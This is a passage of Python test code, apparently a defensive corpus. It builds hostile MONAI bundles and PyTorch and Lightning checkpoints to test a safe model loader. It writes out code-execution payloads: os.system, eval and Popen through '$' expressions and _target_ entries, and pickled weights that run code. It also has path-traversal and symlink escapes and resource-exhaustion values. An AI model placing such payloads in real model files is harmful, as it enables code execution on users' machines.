    "num_res_blocks": 1,
    "norm_num_groups": 4,
    "attention_levels": [False, False],
    "with_encoder_nonlocal_attn": False,
    "with_decoder_nonlocal_attn": False,
}
# Building the network would take all memory, or for ever, before any weight is compared.
_model_recipe("channels-2-to-30", channels=[2**30, 2**30])
_model_recipe("million-blocks", num_res_blocks=10**6)
_model_recipe("million-levels", channels=[8] * 10**5, attention_levels=[False] * 10**5)
_model_recipe("dimensions", spatial_dims=50)
_model_recipe("target", _target_="os.system")
_model_recipe("text-for-number", channels="$__import__('os').getcwd()")
_model_recipe("groups-of-zero", norm_num_groups=0)
_model_recipe("latent-2-to-40", latent_channels=2**40)
_model_recipe("nothing", channels=[], attention_levels=[])


# --------------------------------------------------------------------------- MONAI bundles

DENOISER: dict[str, Any] = {
    "spatial_dims": 3,
    "in_channels": 3,
    "out_channels": 3,
    "channels": [8, 16],
    "attention_levels": [False, True],
    "num_head_channels": [0, 8],
    "num_res_blocks": 1,
    "norm_num_groups": 4,
}


def inference() -> dict[str, Any]:
    """`inference.json` of a small latent diffusion bundle, in the manner of the model zoo."""
    return {
        "imports": ["$import torch", "$from pathlib import Path"],
        "bundle_root": ".",
        "model_dir": "$@bundle_root + '/models'",
        "device": "$torch.device('cpu')",
        "spatial_dims": 3,
        "latent_channels": 3,
        "latent_shape": ["@latent_channels", 8, 8, 8],
        "autoencoder_def": {
            "_target_": "monai.networks.nets.AutoencoderKL",
            **AUTOENCODER,
            "spatial_dims": "@spatial_dims",
            "latent_channels": "@latent_channels",
        },
        "network_def": {"_target_": "monai.networks.nets.DiffusionModelUNet", **DENOISER},
        "load_autoencoder_path": "$@model_dir + '/model_autoencoder.pt'",
        "load_autoencoder": "$@autoencoder_def.load_state_dict(torch.load(@load_autoencoder_path))",
        "autoencoder": "$@autoencoder_def.to(@device)",
        "load_diffusion_path": "$@model_dir + '/model.pt'",
        "load_diffusion": "$@network_def.load_state_dict(torch.load(@load_diffusion_path))",
        "diffusion": "$@network_def.to(@device)",
        "noise_scheduler": {
            "_target_": "monai.networks.schedulers.DDIMScheduler",
            "_requires_": ["@load_diffusion", "@load_autoencoder"],
            "num_train_timesteps": 1000,
            "beta_start": 0.0015,
            "beta_end": 0.0195,
            "schedule": "scaled_linear_beta",
            "clip_sample": False,
        },
        "noise": "$torch.randn([1]+@latent_shape).to(@device)",
        "set_timesteps": "$@noise_scheduler.set_timesteps(num_inference_steps=50)",
        "inferer": {"_target_": "scripts.ldm_sampler.LDMSampler", "_requires_": "@set_timesteps"},
        "sample": "$@inferer.sampling_fn(@noise, @autoencoder, @diffusion, @noise_scheduler)",
    }


@functools.cache
def bundle_weights() -> dict[str, bytes]:
    """Both networks of the bundle with random weights, as torch.save writes them."""
    import torch
    from monai.networks.nets import AutoencoderKL, DiffusionModelUNet

    random = torch.Generator().manual_seed(0)
    files = {}
    for name, network in (
        ("model_autoencoder.pt", AutoencoderKL(**AUTOENCODER)),
        ("model.pt", DiffusionModelUNet(**DENOISER)),
    ):
        state = {
            key: 0.1 * torch.randn(value.shape, generator=random)
            for key, value in network.state_dict().items()
        }
        buffer = io.BytesIO()
        torch.save(state, buffer)
        files[name] = buffer.getvalue()
    return files


def bundle(folder: Path, config: Any) -> Path:
    """Write a whole bundle around a config, which may be bytes."""
    home = folder / "bundle"
    (home / "configs").mkdir(parents=True)
    (home / "models").mkdir()
    metadata = {"version": "1.0.0", "monai_version": "1.6.0", "name": "small"}
    (home / "configs" / "metadata.json").write_text(json.dumps(metadata))
    content = config if isinstance(config, bytes) else json.dumps(config).encode()
    (home / "configs" / "inference.json").write_bytes(content)
    for name, data in bundle_weights().items():
        (home / "models" / name).write_bytes(data)
    return home


def _bundle(
    name: str,
    spoil: Callable[[dict[str, Any], Path], Any],
    naive: str | None = "monai",
    how: Callable[..., Any] | None = None,
) -> None:
    """A bundle that is hostile where its networks or weights are named."""

    @(how or functools.partial(hostile, naive=naive))(f"bundle-{name}")
    def _(folder, marker):
        config = inference()
        changed = spoil(config, marker)
        for path in ("outside.pt", "bundle.pt"):
            (folder / path).write_bytes(bundle_weights()["model_autoencoder.pt"])
        return bundle(folder, config if changed is None else changed)


def _set(key: str, value: Callable[[Path], Any]) -> Callable[[dict[str, Any], Path], None]:
    def spoil(config: dict[str, Any], marker: Path) -> None:
        *parents, last = key.split(".")
        for part in parents:
            config = config[part]
        config[last] = value(marker)

    return spoil


def _expression(marker: Path) -> str:
    return f"$__import__('os').system({shell(marker)!r})"


def _called(target: str, **arguments: Callable[[Path], Any]) -> Callable[[Path], Any]:
    return lambda marker: {"_target_": target} | {k: v(marker) for k, v in arguments.items()}


_bundle("expression-for-channels", _set("autoencoder_def.channels", _expression))
_bundle("expression-for-dimensions", _set("spatial_dims", _expression))
_bundle("expression-for-network", _set("network_def", _expression))
_bundle("expression-for-shape", _set("latent_shape", _expression))
_bundle("expression-for-scheduler", _set("noise_scheduler", _expression))
_bundle(
    "expression-in-arithmetic",
    _set("latent_channels", lambda m: f"$[3, __import__('os').system({shell(m)!r})][0]"),
)
_bundle("comprehension", _set("latent_channels", lambda m: f"$[{python(m)} for _ in (1,)] and 3"))
_bundle(
    "attributes-of-objects",
    _set("latent_channels", lambda m: "$().__class__.__base__.__subclasses__()[0] and 'x'"),
    None,
)
_bundle("target-os-system", _set("autoencoder_def", _called("os.system", command=shell)))
_bundle("target-eval", _set("autoencoder_def", _called("builtins.eval", source=python)), None)
_bundle(
    "target-popen",
    _set("network_def", _called("subprocess.Popen", args=lambda m: ["touch", str(m)])),
)
_bundle(
    "target-path-touch",
    _set("network_def", _called("pathlib.Path.touch", self=lambda m: f"$Path({str(m)!r})")),
)
_bundle("target-is-expression", _set("autoencoder_def._target_", _expression), None)
_bundle("target-relative", _set("autoencoder_def._target_", lambda m: "..evil.Net"), None)
_bundle("target-monai-misc", _set("network_def._target_", lambda m: "monai.bundle.run"), None)
_bundle(
    # Within the packages of networks there are functions and modules with imports of their own.
    "target-through-module",
    _set("network_def._target_", lambda m: "monai.networks.nets.unet.warnings.warn"),
    None,
)
_bundle("scripts-of-its-own", _set("network_def._target_", lambda m: "scripts.net.Net"), None)
_bundle("power", _set("latent_channels", lambda m: "$10**10**10"), None)
_bundle("power-of-small", _set("latent_channels", lambda m: "$9**9**9**9"), None)
_bundle("shift", _set("latent_channels", lambda m: "$1<<(1<<40)"), None)
_bundle("list-times", _set("latent_shape", lambda m: "$[0]*10**11"), None)
_bundle("division-by-zero", _set("latent_channels", lambda m: "$3//0"), None)
_bundle("parentheses", _set("latent_channels", lambda m: "$" + "(" * 10**5 + "3"), None)
_bundle("minus-signs", _set("latent_channels", lambda m: "$" + "-" * 10**5 + "3"), None)
_bundle("long-sum", _set("latent_channels", lambda m: "$" + "+".join(["1"] * 10**5)), None)
_bundle("self-reference", _set("latent_channels", lambda m: "@latent_channels"), None)


@hostile("bundle-reference-circle")
def _(folder, marker):
    config = inference() | {"latent_channels": "@x", "x": "$@y + 1", "y": "@latent_channels"}
    return bundle(folder, config)


@hostile("bundle-reference-doubling")
def _(folder, marker):
    """Each level refers twice to the one below: 2**60 elements."""
    config = inference() | {f"a{i}": [f"@a{i - 1}"] * 2 for i in range(1, 60)}
    return bundle(folder, config | {"a0": 3, "latent_shape": "@a59"})


@hostile("bundle-expression-doubling")
def _(folder, marker):
    config = inference() | {f"a{i}": f"$@a{i - 1} + @a{i - 1}" for i in range(1, 60)}
    return bundle(folder, config | {"a0": [3], "latent_shape": "@a59"})


@hostile("bundle-long-chain")
def _(folder, marker):
    config = inference() | {f"a{i}": f"@a{i + 1}" for i in range(20_000)}
    return bundle(folder, config | {"latent_channels": "@a0"})


@hostile("bundle-missing-reference")
def _(folder, marker):
    return bundle(folder, inference() | {"latent_channels": "@nowhere#0#1"})


_bundle("huge-network", _set("network_def.channels", lambda m: [2**30, 2**30]), None)
_bundle("million-blocks", _set("network_def.num_res_blocks", lambda m: 10**6), None)
_bundle("50-dimensions", _set("spatial_dims", lambda m: 50), None)
_bundle("deep", lambda config, m: b'{"autoencoder_def":' * 10**5 + b"1" + b"}" * 10**5, None)
_bundle("not-json", lambda config, m: python(m).encode(), None)
_bundle("list", lambda config, m: [config], None)
_bundle("number", lambda config, m: b"9" * 10**5, None)
for _key in ("load_autoencoder_path", "load_diffusion_path"):
    for _name, _value in {
        "parent": "$@bundle_root + '/../outside.pt'",
        "grandparent": "$@bundle_root + '/../../files/outside.pt'",
        "through-models": "$@model_dir + '/../../outside.pt'",
        # A prefix compared as text takes this for the inside: "bundle.pt" begins with "bundle".
        "sibling": "$@bundle_root + '/../bundle.pt'",
    }.items():
        _bundle(f"{_key}-{_name}", _set(_key, lambda m, value=_value: value), None)
_bundle(
    "path-absolute",
    _set("load_autoencoder_path", lambda m: str(m.parent / "files" / "outside.pt")),
    None,
)
_bundle("path-with-nul", _set("load_autoencoder_path", lambda m: "models/a\0.pt"), None)
# A path that cannot be told may be left out of account where the file lies under its usual name.
_bundle("path-expression", _set("load_autoencoder_path", _expression), None, harmless)
_bundle("path-text-times", _set("model_dir", lambda m: "$'a'*10**11"), None, harmless)
_bundle("root-elsewhere", _set("bundle_root", lambda m: str(m.parent / "files")), None, harmless)


@hostile("bundle-weights-linked-outside", posix=True)
def _(folder, marker):
    home = bundle(folder, inference())
    (folder / "outside.pt").write_bytes(bundle_weights()["model_autoencoder.pt"])
    (home / "models" / "model_autoencoder.pt").unlink()
    (home / "models" / "model_autoencoder.pt").symlink_to(folder / "outside.pt")
    return home


@hostile("bundle-weights-run-code")
def _(folder, marker):
    home = bundle(folder, inference())
    torch_zip(home / "models" / "model.pt", dumped(_system(marker), state_ops()))
    return home


@hostile("bundle-weights-are-torchscript")
def _(folder, marker):
    home = bundle(folder, inference())
    scripted(home / "models" / "model.pt", marker)
    return home


# ----------------------------------------------- settings inside files of training programs


def _lightning(name: str, settings: Callable[[], Ops], keys: tuple[str, ...] = ()) -> None:
    """A VQ-GAN as PyTorch Lightning stores it, whose settings or names are hostile."""

    @hostile(f"lightning-{name}")
    def _(folder, marker):
        shapes = {
            "codebook.embeddings": (8, 4),
            "codebook.z_avg": (8, 4),
            "codebook.N": (8,),
            "encoder.conv_first.conv.weight": (4, 1, 3, 3, 3),
            "encoder.conv_blocks.0.down.conv.weight": (8, 4, 4, 4, 4),
            "pre_vq_conv.conv.weight": (4, 8, 1, 1, 1),
        } | dict.fromkeys(keys, (1,))
        pairs, records = [], {}
        for index, (key, shape) in enumerate(shapes.items()):
            size = int(np.prod(shape))
            records[str(index)] = np.ones(size, np.float32).tobytes()
            pairs += [text(key), tensor(stored(str(index), size), shape)]
        whole = mapping(
            text("pytorch-lightning_version"),
            text("2.5.0"),
            text("state_dict"),
            mapping(*pairs),
            text("hyper_parameters"),
            settings(),
        )
        return torch_zip(folder / "vqgan.ckpt", dumped(whole), records)


def _fan_out() -> Ops:
    """A list of 300 times the same list of 300 times the same list, 12 levels: 300**12 items."""
    ops = b"(" * 12 + num(1)
    for level in range(12):
        ops += b"q%c" % level + (b"h%c" % level) * 299 + b"t"
    return mapping(text("cfg"), mapping(text("model"), ops))


def _model_settings(**values: Ops) -> Callable[[], Ops]:
    pairs = [part for key, value in values.items() for part in (text(key), value)]
    return lambda: mapping(text("cfg"), mapping(text("model"), mapping(*pairs)))


_lightning("settings-fan-out", _fan_out)
_lightning("settings-in-themselves", lambda: b"}q\x01" + text("cfg") + b"h\x01s")
_lightning("settings-are-code", lambda: glob("os.system"))
_lightning("downsample-huge", _model_settings(downsample=lst(*[num(2**40)] * 3)))
_lightning("downsample-zero", _model_settings(downsample=lst(num(0), num(0), num(0))))
_lightning("downsample-is-text", _model_settings(downsample=text("$__import__('os')")))
_lightning("width-beyond-64-bits", _model_settings(n_hiddens=num(10**30), embedding_dim=num(-1)))
_lightning("names-with-codes", _model_settings(norm_type=text(ESCAPES), padding_type=text(ESCAPES)))
# int() of more than 4300 digits is an error of its own.
_lightning("number-in-key", lambda: EMPTY, (f"encoder.conv_blocks.{'9' * 5000}.down.conv.weight",))
_lightning("many-blocks", lambda: EMPTY, tuple(f"encoder.conv_blocks.{i}.x" for i in range(5000)))


# ---------------------------------------------------------------------- clean and harmless


@_into(CLEAN, "checkpoint-zip")
def _(folder, marker):
    home = checkpoint(folder)
    torch_zip(home / "embedder.pt", dumped(state_ops()))
    return home


@_into(CLEAN, "checkpoint-raw-zip")
def _(folder, marker):
    home = checkpoint(folder)
    raw_zip(home / "embedder.pt", whole_entries())
    return home


@_into(CLEAN, "checkpoint-legacy")
def _(folder, marker):
    home = checkpoint(folder)
    legacy(home / "embedder.pt", state_ops())
    return home


@_into(CLEAN, "checkpoint-safetensors")
def _(folder, marker):
    home = checkpoint(folder, "embedder.safetensors")
    safetensors(home / "embedder.safetensors", *_safe_parts())
    return home


@_into(CLEAN, "bundle")
def _(folder, marker):
    return bundle(folder, inference())


def _foreign(name: str, ops: Callable[[Path], Ops]) -> None:
    """A whole state dict under `state_dict`, beside values of classes nobody has here."""

    @_into(HARMLESS, f"{name}:zip")
    def _(folder, marker):
        whole = mapping(text("state_dict"), state_ops(), text("extra"), ops(folder))
        return torch_zip(folder / "model.ckpt", dumped(whole))

    @_into(HARMLESS, f"{name}:legacy")
    def _(folder, marker):
        whole = mapping(text("state_dict"), state_ops(), text("extra"), ops(folder))
        return legacy(folder / "model.ckpt", whole)


_foreign(
    "argparse-namespace", lambda _: new("argparse.Namespace") + mapping(text("lr"), num(1)) + b"b"
)
_foreign(
    "omegaconf",
    lambda _: (
        new("omegaconf.dictconfig.DictConfig")
        + mapping(
            text("_metadata"), new("omegaconf.base.ContainerMetadata"), text("_content"), EMPTY
        )
        + b"b"
    ),
)
_foreign(
    "numpy-scalar",
    lambda _: call(
        "numpy.core.multiarray.scalar",
        call("numpy.dtype", text("f8"), FALSE, TRUE)
        + tup(num(3), text("<"), NONE, NONE, NONE, num(-1), num(-1), num(0))
        + b"b",
        latin(struct.pack("<d", 0.5)),
    ),
)
_foreign("posix-path", lambda _: call("pathlib.PosixPath", text("/"), text("data")))
_foreign(
    "datetime", lambda _: call("datetime.datetime", latin(b"\x07\xe8\x01\x02\x03\x04\x05\0\0\0"))
)
_foreign("defaultdict", lambda _: call("collections.defaultdict", glob("builtins.list")))
_foreign("unknown-class", lambda _: new("their_project.config.Settings") + EMPTY + b"b")


@_into(HARMLESS, "safetensors-named-pt")
def _(folder, marker):
    return safetensors(folder / "model.pt", *_safe_parts())


@_into(HARMLESS, "zip-named-safetensors")
def _(folder, marker):
    return torch_zip(folder / "model.safetensors", dumped(state_ops()))


@_into(HARMLESS, "bundle-with-code-nobody-needs")
def _(folder, marker):
    """Bundles of the model zoo are full of expressions; those beside the point stay unread."""
    config = inference()
    config["imports"].append(f"${python(marker)}")
    config["initialize"] = [_expression(marker)]
    config["run"] = _expression(marker)
    config["saver"] = {"_target_": "os.system", "command": shell(marker), "_desc_": "x"}
    config["noise_scheduler"]["_requires_"].append(_expression(marker))
    config["_meta_"] = {"_target_": "os.system"}
    home = bundle(folder, config)
    CORPUS["logging-conf"](home / "configs", marker)
    (home / "scripts").mkdir()
    (home / "scripts" / "__init__.py").write_text(python(marker))
    return home


@_into(HARMLESS, "folder-with-hostile-yaml")
def _(folder, marker):
    """Weights that are fine beside a config that is not."""
    home = folder / "run"
    home.mkdir()
    torch_zip(home / "model.pt", dumped(state_ops()))
    CORPUS["yaml-tag"](home, marker)
    return home


def disassembled(path: Path) -> str:
    """Show a bare pickle, for people who add an entry."""
    out = io.StringIO()
    pickletools.dis(path.read_bytes(), out)
    return out.getvalue()
